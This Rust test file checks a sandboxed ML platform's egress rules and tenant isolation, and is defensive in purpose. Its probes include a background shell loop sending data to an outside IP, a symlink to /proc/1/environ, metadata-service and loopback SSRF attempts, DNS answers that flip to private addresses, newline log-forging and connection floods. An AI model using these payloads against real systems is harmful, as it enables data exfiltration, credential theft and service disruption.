//! The attacks that need something to happen outside as well: names that lie, rules that change under a stream, a
//! platform that is killed, floods beside a neighbour.

use std::{
    process::Command,
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, ensure};
use serde_json::Value;

use super::{
    lab::{INDEX, Lab},
    table::attacks,
};

const APPROVED: &str = r#"{"probe": "http", "address": "approved.example.net", "requests": ["GET / HTTP/1.1\r\nHost: approved.example.net\r\n\r\n"]}"#;
const OTHER: &str = r#"{"probe": "http", "address": "other.example.net", "requests": ["GET / HTTP/1.1\r\nHost: other.example.net\r\n\r\n"]}"#;
const APPROVED_AT: &[&str] = &["93.184.216.10", "2a00:1450::10"];
/// Longest time from a change of a rule to the end of the streams it no longer allows; the target is one second, the
/// rest is for a loaded machine.
const CUT: Duration = Duration::from_secs(3);

type Step = (&'static str, fn(&mut Lab) -> Result<()>);

/// Runs all of them; gives what failed.
#[expect(clippy::print_stdout, reason = "times, which are shown when something fails")]
pub fn run_all(mut lab: Lab) -> Vec<String> {
    let steps: [Step; 16] = [
        ("24-28 rules that are too wide", rules_that_are_too_wide),
        ("59 another deployment", another_deployment),
        ("59 memory and queues across sandboxes", memory_and_queues_across_sandboxes),
        ("73, 75 links and descriptors of a neighbour", links_and_descriptors_of_a_neighbour),
        ("95 hooks of packages", hooks_of_packages),
        ("97, 98 another account, another part of one", another_account),
        ("35-37 names that lead inward", names_that_lead_inward),
        ("36 answers that flip", answers_that_flip),
        ("a resolver that hangs", a_resolver_that_hangs),
        ("26 a rule removed under a stream", a_rule_removed_under_a_stream),
        ("27 the mode tightened under a stream", the_mode_tightened_under_a_stream),
        ("38 fresh names without end", fresh_names_without_end),
        ("89 floods beside a neighbour", floods_beside_a_neighbour),
        ("94 the decision log", the_decision_log),
        ("88 kill -9 of the platform", kill_of_the_platform),
        ("96 a daemon outliving its deployment", a_daemon_outliving_its_deployment),
    ];
    let mut failures = Vec::new();
    for (what, step) in steps {
        let began = Instant::now();
        let done = step(&mut lab);
        println!("{what}: {:?}", began.elapsed());
        if let Err(error) = done {
            failures.push(format!("{what}: {error:#}"));
        }
    }
    if !failures.is_empty() {
        failures.push(lab.platform.log());
    }
    failures
}

fn is_ok(said: &Value) -> bool {
    said["outcome"] == "open" && said["status"] == "200"
}

fn rules_that_are_too_wide(lab: &mut Lab) -> Result<()> {
    let set = |rule: &str| lab.platform.casemate(&format!("ml workspace outbound-rule set -w main -n wide {rule}"));
    let tag = "--type service_tag --service-tag lab --protocol TCP --port-ranges";
    for rule in [
        "--type fqdn --destination *".to_owned(),
        "--type fqdn --destination *.com".to_owned(),
        "--type fqdn --destination a.*.example.net".to_owned(),
        "--type fqdn --destination 93.184.216.11".to_owned(),
        format!("{tag} 0-70000 --address-prefixes 93.184.216.0/24"),
        format!("{tag} 80 --address-prefixes 93.184.216.0/33"),
    ] {
        ensure!(set(&rule).is_err(), "this rule was taken: {rule}");
    }
    // What such a rule can't be refused for, it doesn't open either.
    for (prefix, port, address) in [
        ("169.254.0.0/16", "8080", "169.254.169.254"),
        ("127.0.0.0/8", "$PLATFORM", "127.0.0.2"),
        ("0.0.0.0/0", "$WITNESS", "192.168.77.2"),
        ("192.168.77.0/24", "$WITNESS", "192.168.77.2"),
    ] {
        let _ = set(&format!("{tag} 1-65535 --address-prefixes {prefix}"));
        let before = lab.mark()?;
        let said = lab.probe(&format!(r#"{{"probe": "raw", "address": "{address}", "port": {port}}}"#))?;
        ensure!(said["outcome"] == "refused", "a rule for {prefix} opened {address}: {said}");
        lab.silent_since(before, &[])?;
    }
    set(&format!("{tag} 80 --address-prefixes 93.184.216.0/24"))?;
    let other =
        r#"{"probe": "raw", "address": "93.184.216.11", "port": 80, "send": "GET / HTTP/1.1\r\nHost: x\r\n\r\n"}"#;
    eventually(|| Ok(is_ok(&lab.probe(other)?))).context("the control: a rule for a public prefix")?;
    lab.platform.casemate("ml workspace outbound-rule remove -w main -n wide --yes")?;
    eventually(|| Ok(!is_ok(&lab.probe(other)?))).context("the rule removed again")
}

fn another_deployment(lab: &mut Lab) -> Result<()> {
    lab.probe_at("green", r#"{"probe": "serve", "port": 9999}"#)?;
    let call = |address: &str| format!(r#"{{"probe": "raw", "address": "{address}", "port": 9999, "wait": 2}}"#);
    let greeted = |said: &Value| said["detail"] == "hello}";
    eventually(|| Ok(greeted(&lab.probe_at("green", &call("127.0.0.1"))?))).context("the control: green itself")?;
    for address in ["127.0.0.1", "::1", "192.168.77.2", "198.18.0.1", "0.0.0.0"] {
        let said = lab.probe(&call(address))?;
        ensure!(!greeted(&said), "blue reached green at {address}");
    }
    let abstract_name = r#"{"probe": "unix", "path": "@casemate-neighbour"}"#;
    ensure!(lab.probe_at("green", abstract_name)?["outcome"] == "open", "the control: green's own unix socket");
    ensure!(lab.probe(abstract_name)?["outcome"] == "refused", "blue reached green's unix socket");
    // Neither does the host, nor what is on its network.
    let enter = lab.world.enter();
    let from_host = |port: &str| -> Result<bool> {
        let line = format!("import socket; socket.create_connection(('127.0.0.1', {port}), 2)");
        let output = Command::new(&enter[0]).args(&enter[1..]).args(["python3", "-c", &line]).output()?;
        Ok(output.status.success())
    };
    ensure!(from_host(lab.platform.url.rsplit(':').next().context("a port")?)?, "the control: the platform's own port");
    ensure!(!from_host("9999")?, "the host reached into a sandbox");
    Ok(())
}

fn memory_and_queues_across_sandboxes(lab: &mut Lab) -> Result<()> {
    for (make, find) in [
        (
            r#"{"probe": "write", "path": "/dev/shm/leak", "content": "secret"}"#,
            r#"{"probe": "read", "path": "/dev/shm/leak"}"#,
        ),
        (
            r#"{"probe": "write", "path": "/tmp/leak", "content": "secret"}"#,
            r#"{"probe": "read", "path": "/tmp/leak"}"#,
        ),
        (
            r#"{"probe": "syscall", "number": 29, "arguments": [20972, 4096, 950]}"#,
            r#"{"probe": "syscall", "number": 29, "arguments": [20972, 4096, 0]}"#,
        ),
        (
            r#"{"probe": "syscall", "number": 68, "arguments": [20972, 950]}"#,
            r#"{"probe": "syscall", "number": 68, "arguments": [20972, 0]}"#,
        ),
    ] {
        let made = lab.probe(make)?;
        if made["outcome"] == "open" {
            ensure!(lab.probe(find)?["outcome"] == "open", "the control: {find} of blue's own");
        }
        let said = lab.probe_at("green", find)?;
        ensure!(said["outcome"] == "refused", "green found what blue made ({made}): {said}");
    }
    Ok(())
}

/// What one sandbox plants or hands out is not there for another.
fn links_and_descriptors_of_a_neighbour(lab: &mut Lab) -> Result<()> {
    for place in ["/tmp", "/dev/shm"] {
        let plant = format!(r#"{{"probe": "shell", "line": "ln -sfn /proc/1/environ {place}/planted"}}"#);
        ensure!(lab.probe(&plant)?["outcome"] == "open", "blue can't plant a link in {place}");
        let look = format!(r#"{{"probe": "shell", "line": "test -L {place}/planted"}}"#);
        ensure!(lab.probe(&look)?["outcome"] == "open", "the control: blue's own link in {place}");
        ensure!(lab.probe_at("green", &look)?["outcome"] == "refused", "green has blue's link in {place}");
    }
    let own = lab.probe_at("green", r#"{"probe": "give", "name": "casemate-green", "content": "of green"}"#)?;
    ensure!(own["detail"] == "of green", "the control: green takes what it hands out itself: {own}");
    let take = r#"{"probe": "descriptor", "path": "@casemate-green"}"#;
    ensure!(lab.probe_at("green", take)?["detail"] == "of green", "the control: green, once more");
    let said = lab.probe(take)?;
    ensure!(said["outcome"] == "refused", "blue got a descriptor of green's: {said}");
    Ok(())
}

/// What hooks of packages reach: the index while they are built, what the deployment may reach afterwards, and nothing
/// when the environment is tried.
fn hooks_of_packages(lab: &mut Lab) -> Result<()> {
    let before = lab.mark()?;
    lab.deploy_hooks()?;
    let seen = lab.probe_at("hooked", "{}")?;
    for (when, allowed) in [("build", "the index"), ("start", "an approved name")] {
        let tried = seen[when].as_object().with_context(|| format!("the hooks told nothing: {seen}"))?;
        ensure!(tried.contains_key(allowed), "{seen}");
        for (what, outcome) in tried {
            ensure!((outcome == "did") == (what == allowed), "at the {when}, {what}: {outcome}");
        }
    }
    lab.silent_since(before, &[INDEX, APPROVED_AT[0], APPROVED_AT[1]])?;
    ensure!(!lab.was_asked(before, "other")?, "a name that is not approved was asked for");
    ensure!(lab.was_asked(before, "approved")?, "the control: an approved name is");
    lab.platform.casemate("ml online-deployment delete -n hooked -e sample --yes")?;
    Ok(())
}

/// A storage account as its owner knows it.
struct Account {
    id: String,
    host: String,
    /// The path of its files, with a signature that is good.
    listing: String,
}

impl Account {
    fn of(lab: &Lab, workspace: &str) -> Result<Self> {
        let show = |query: &str| -> Result<String> {
            let line = format!("ml workspace show -n {workspace} -g rg --query {query} -o tsv");
            Ok(lab.platform.casemate(&line)?.trim().to_owned())
        };
        let (id, store) = (show("storage_account")?, format!("{}/datastores/workspaceblobstore", show("id")?));
        let container = lab.rest("GET", &store)?["properties"]["containerName"].clone();
        let signature = lab.rest("POST", &format!("{store}/listSecrets"))?["sasToken"].clone();
        let (container, signature) = (container.as_str().context("a name")?, signature.as_str().context("a token")?);
        let name = id.rsplit('/').next().context("an id has a name")?.to_lowercase();
        Ok(Self {
            host: format!("{name}.blob.core.casemate.internal"),
            listing: format!("/{container}?restype=container&comp=list&{signature}"),
            id,
        })
    }

    /// What a model gets that asks at this host for `listing`.
    fn asked_for(&self, lab: &Lab, listing: &str) -> Result<Value> {
        let probe = serde_json::json!({"probe": "tls", "address": self.host, "name": self.host, "path": listing});
        lab.probe(&probe.to_string())
    }
}

fn another_account(lab: &mut Lab) -> Result<()> {
    lab.platform.casemate("ml workspace create -n other -g rg")?;
    let (own, theirs) = (Account::of(lab, "main")?, Account::of(lab, "other")?);
    ensure!(is_ok(&own.asked_for(lab, &own.listing)?), "the control: the workspace's own storage");
    // Theirs, with a signature that is good: at the own account's host, and at its own.
    let said = own.asked_for(lab, &theirs.listing)?;
    ensure!(said["status"] == "403", "their files at the own account's host: {said}");
    let said = theirs.asked_for(lab, &theirs.listing)?;
    ensure!(said["outcome"] == "refused", "their account, which no rule names: {said}");
    // Other parts of the own account, and other ports.
    for (service, port) in [("file", "443"), ("queue", "443"), ("dfs", "443"), ("blob", "80"), ("blob", "$PLATFORM")] {
        let host = own.host.replacen("blob", service, 1);
        let said =
            lab.probe(&format!(r#"{{"probe": "tls", "address": "{host}", "name": "{host}", "port": {port}}}"#))?;
        ensure!(said["outcome"] == "refused", "{host}:{port} got {said}");
    }
    // A rule opens their account for as long as its owner lets it.
    lab.platform.casemate(&format!(
        "ml workspace outbound-rule set -w main -n theirs --type private_endpoint --service-resource-id {} --subresource-target blob",
        theirs.id
    ))?;
    eventually(|| Ok(is_ok(&theirs.asked_for(lab, &theirs.listing)?)))
        .context("the control: an approved connection")?;
    let connections = lab.rest("GET", &theirs.id)?["properties"]["privateEndpointConnections"].clone();
    let named = |one: &&Value| one["properties"]["privateEndpoint"]["id"].as_str().is_some();
    let connection = connections
        .as_array()
        .into_iter()
        .flatten()
        .find(|one| one["name"].as_str().is_some_and(|name| name.starts_with("main.")) && named(one));
    let connection = connection.and_then(|one| one["id"].as_str());
    let connection = connection.with_context(|| format!("no connection of the rule in {connections}"))?.to_owned();
    for _ in 0..2 {
        let change = |verb: &str| {
            lab.platform.casemate(&format!("network private-endpoint-connection {verb} --id {connection}"))
        };
        let said = own.asked_for(lab, &theirs.listing)?;
        ensure!(said["status"] == "403", "a rule for their account opened it at the own one's host: {said}");
        change("reject")?;
        eventually(|| Ok(theirs.asked_for(lab, &theirs.listing)?["outcome"] == "refused"))
            .context("a rejected connection")?;
        change("approve")?;
        eventually(|| Ok(is_ok(&theirs.asked_for(lab, &theirs.listing)?))).context("approved once more")?;
    }
    lab.platform.casemate("ml workspace outbound-rule remove -w main -n theirs --yes")?;
    eventually(|| Ok(theirs.asked_for(lab, &theirs.listing)?["outcome"] == "refused")).context("the rule removed")
}

fn names_that_lead_inward(lab: &mut Lab) -> Result<()> {
    for name in [
        "metadata",
        "loopback",
        "private",
        "router",
        "self",
        "shared",
        "protocol",
        "benchmark",
        "reserved",
        "mixed",
        "v6",
        "alias",
    ] {
        let before = lab.mark()?;
        let host = format!("{name}.inward.example.net");
        let said = lab.probe(&format!(
            r#"{{"probe": "http", "address": "{host}", "requests": ["GET / HTTP/1.1\r\nHost: {host}\r\n\r\n"]}}"#
        ))?;
        ensure!(!is_ok(&said), "{name} got {said}");
        // The resolver may be asked: that is how the address is known.
        lab.silent_since(before, &["the resolver"])?;
    }
    ensure!(is_ok(&lab.probe(APPROVED)?), "the control");
    Ok(())
}

fn answers_that_flip(lab: &mut Lab) -> Result<()> {
    lab.world
        .name("flip.example.net.", serde_json::json!({"flip": [["93.184.216.10"], ["192.168.77.1"], ["127.0.0.1"]]}))?;
    let before = lab.mark()?;
    let flip = r#"{"probe": "http", "address": "flip.example.net", "requests": ["GET / HTTP/1.1\r\nHost: flip.example.net\r\n\r\n"]}"#;
    ensure!(is_ok(&lab.probe(flip)?), "the control: the first answer is public");
    for _ in 0..4 {
        lab.probe(flip)?;
    }
    lab.silent_since(before, APPROVED_AT)
}

fn a_resolver_that_hangs(lab: &mut Lab) -> Result<()> {
    let (before, began) = (lab.mark()?, Instant::now());
    let said = lab.probe(r#"{"probe": "tls", "address": "hang.wild.example.net", "name": "hang.wild.example.net"}"#)?;
    ensure!(said["outcome"] != "open", "{said}");
    ensure!(began.elapsed() < Duration::from_secs(40), "it took {:?}", began.elapsed());
    ensure!(lab.silent_since(before, &[]).is_err(), "the resolver was not asked, so that this proves nothing");
    ensure!(is_ok(&lab.probe(APPROVED)?), "others are not served");
    Ok(())
}

/// Starts a slow stream, makes a change, and gives what became of the stream and how long that took.
fn stream_during(lab: &Lab, host: &str, change: &str) -> Result<(Value, Duration)> {
    let request = format!(r#"{{"probe": "stream_for", "address": "{host}", "host": "{host}", "seconds": 40}}"#);
    thread::scope(|scope| {
        let stream = scope.spawn(|| lab.probe(&request));
        thread::sleep(Duration::from_secs(2));
        ensure!(!stream.is_finished(), "the stream ended before the change: {:?}", stream.join());
        lab.platform.casemate(change)?;
        let changed = Instant::now();
        let said = stream.join().map_err(|_| anyhow::anyhow!("the stream's thread panicked"))??;
        Ok((said, changed.elapsed()))
    })
}

fn a_rule_removed_under_a_stream(lab: &mut Lab) -> Result<()> {
    let (said, after) =
        stream_during(lab, "approved.example.net", "ml workspace outbound-rule remove -w main -n approved --yes")?;
    ensure!(said["outcome"] == "cut" && after < CUT, "{said} after {after:?}");
    ensure!(!is_ok(&lab.probe(APPROVED)?), "still open without its rule");
    lab.platform.casemate(
        "ml workspace outbound-rule set -w main -n approved --type fqdn --destination approved.example.net",
    )?;
    eventually(|| Ok(is_ok(&lab.probe(APPROVED)?))).context("the rule set again")
}

fn the_mode_tightened_under_a_stream(lab: &mut Lab) -> Result<()> {
    ensure!(!is_ok(&lab.probe(OTHER)?), "open before");
    lab.platform.casemate("ml workspace update -n main -m allow_internet_outbound")?;
    eventually(|| Ok(is_ok(&lab.probe(OTHER)?))).context("the open mode")?;
    caught_in_the_open_mode(lab)?;
    // Even then the host, its neighbours and the metadata service of the machine are out of reach.
    for address in ["192.168.77.1", "192.168.77.2", "10.1.2.3", "169.254.1.1", "100.64.1.1"] {
        let before = lab.mark()?;
        let said = lab.probe(&format!(
            r#"{{"probe": "raw", "address": "{address}", "port": 80, "send": "GET / HTTP/1.1\r\n\r\n"}}"#
        ))?;
        ensure!(said["outcome"] == "refused", "{address} got {said}");
        lab.silent_since(before, &[])?;
    }
    let (said, after) =
        stream_during(lab, "other.example.net", "ml workspace update -n main -m allow_only_approved_outbound")?;
    ensure!(said["outcome"] == "cut" && after < CUT, "{said} after {after:?}");
    ensure!(!is_ok(&lab.probe(OTHER)?), "still open");
    ensure!(is_ok(&lab.probe(APPROVED)?), "the rules no longer work");
    Ok(())
}

/// What the rules and the inspection stop passes now, and the suite must see it: on a live platform, through a real
/// sandbox.
fn caught_in_the_open_mode(lab: &Lab) -> Result<()> {
    let stopped_by_rules = [
        "1", "2", "3", "4", "5", "6", "11", "13", "21", "22", "29", "31", "33", "41", "42", "43", "45", "49", "50",
        "52", "101", "101b",
    ];
    let missed: Vec<&str> = attacks()
        .filter(|attack| stopped_by_rules.contains(&attack.number) && super::run(lab, attack).is_ok())
        .map(|attack| attack.number)
        .collect();
    ensure!(missed.is_empty(), "open, and the suite did not notice: {missed:?}");
    Ok(())
}

fn fresh_names_without_end(lab: &mut Lab) -> Result<()> {
    let before = (lab.mark()?, memory(lab)?);
    let given = lab.probe(r#"{"probe": "flood", "pattern": "n{}.wild.example.net", "count": 600}"#)?;
    ensure!(given["detail"].as_u64().is_some_and(|given| given < 600), "{given}");
    // In turns, since one request may not take as long as all of them.
    let turns = if std::env::var_os("CASEMATE_TEST_LONG").is_some() { 50 } else { 1 };
    for turn in 0..turns {
        lab.probe(&format!(r#"{{"probe": "flood", "pattern": "u{{}}.t{turn}.example.org", "count": 2000}}"#))?;
    }
    lab.silent_since(before.0, &[])?;
    let grown = memory(lab)?.saturating_sub(before.1);
    ensure!(grown < 64 << 20, "the platform grew by {grown} bytes");
    eventually(|| Ok(is_ok(&lab.probe(APPROVED)?))).context("after the flood")
}

/// The platform's resident memory, in bytes.
fn memory(lab: &Lab) -> Result<u64> {
    let status = std::fs::read_to_string(format!("/proc/{}/status", lab.platform.pid()))?;
    let line = status.lines().find(|line| line.starts_with("VmRSS:")).context("VmRSS")?;
    Ok(line.split_whitespace().nth(1).context("a number")?.parse::<u64>()? << 10)
}

fn floods_beside_a_neighbour(lab: &mut Lab) -> Result<()> {
    thread::scope(|scope| {
        let flood = scope
            .spawn(|| lab.probe(r#"{"probe": "many", "address": "approved.example.net", "port": 443, "count": 2000}"#));
        let mut slowest = Duration::ZERO;
        while !flood.is_finished() {
            let began = Instant::now();
            ensure!(is_ok(&lab.probe_at("green", APPROVED)?), "the neighbour was refused");
            slowest = slowest.max(began.elapsed());
        }
        let held = flood.join().map_err(|_| anyhow::anyhow!("the flood's thread panicked"))??;
        ensure!(held["detail"].as_u64().is_some_and(|held| held <= 512), "held open: {held}");
        ensure!(slowest < Duration::from_secs(5), "the neighbour waited {slowest:?}");
        Ok(())
    })
}

fn the_decision_log(lab: &mut Lab) -> Result<()> {
    lab.probe(r#"{"probe": "ask", "name": "secret\nforged line.example.org", "wait": 1}"#)?;
    lab.probe(OTHER)?;
    let read = |more: &str| -> Result<Vec<Value>> {
        let text = lab.platform.casemate(&format!("ml workspace outbound-log -n main -o json {more}"))?;
        Ok(serde_json::from_str(&text)?)
    };
    eventually(|| {
        let denied = read("--denied")?;
        let about = |name: &str| denied.iter().any(|entry| entry["name"] == name && entry["allowed"] == false);
        Ok(about("other.example.net") && denied.iter().all(|entry| entry["allowed"] == false))
    })
    .context("the refusal of other.example.net")?;
    let all = read("")?;
    let approved = |entry: &Value| {
        entry["name"] == "approved.example.net" && entry["allowed"] == true && entry["rule"] == "approved"
    };
    ensure!(all.iter().any(approved), "no approved stream in {all:?}");
    let of = read("--endpoint sample --deployment blue")?;
    ensure!(of.iter().any(approved) && of.iter().all(|entry| entry["deployment"] == "sample/blue"), "{of:?}");
    ensure!(read("--endpoint other --deployment blue")?.is_empty(), "another endpoint's deployment of the same name");
    let said = lab.platform.casemate(
        "ml workspace outbound-rule test -w main --endpoint sample --deployment blue other.example.net:443 -o json",
    )?;
    let said: Value = serde_json::from_str(&said)?;
    ensure!(said["allowed"] == false && said["reason"].as_str().is_some_and(|why| !why.is_empty()), "{said}");
    Ok(())
}

fn kill_of_the_platform(lab: &mut Lab) -> Result<()> {
    ensure!(is_ok(&lab.probe(APPROVED)?), "before");
    lab.probe(r#"{"probe": "shell", "line": "(while true; do python3 -c \"import socket; socket.create_connection(('93.184.216.11', 80), 1).send(b'leak')\"; done) >/dev/null 2>&1 &"}"#)?;
    let before = lab.mark()?;
    lab.platform.kill()?;
    thread::sleep(Duration::from_secs(2));
    lab.silent_since(before, &[])?;
    lab.platform.launch()?;
    lab.wait_until_served()?;
    let after = lab.mark()?;
    ensure!(!is_ok(&lab.probe(OTHER)?), "open after the restart");
    lab.silent_since(after, &[])?;
    ensure!(is_ok(&lab.probe(APPROVED)?), "the rules no longer work after the restart");
    Ok(())
}

fn a_daemon_outliving_its_deployment(lab: &mut Lab) -> Result<()> {
    let word = format!("casemate-left-behind-{}", std::process::id());
    let alive = || -> Result<bool> {
        let found = Command::new("pgrep").args(["-f", &format!("^{word}")]).output()?;
        Ok(found.status.success())
    };
    lab.probe_at("green", &format!(r#"{{"probe": "daemon", "word": "{word}"}}"#))?;
    ensure!(alive()?, "the control: the daemon runs while its deployment does");
    lab.platform.casemate("ml online-deployment delete -n green -e sample --yes")?;
    eventually(|| Ok(!alive()?)).context("the daemon lives on")
}

/// Tries for some seconds.
fn eventually(check: impl Fn() -> Result<bool>) -> Result<()> {
    let end = Instant::now() + Duration::from_secs(10);
    while !check()? {
        ensure!(Instant::now() < end, "it did not happen within 10 s");
        thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}
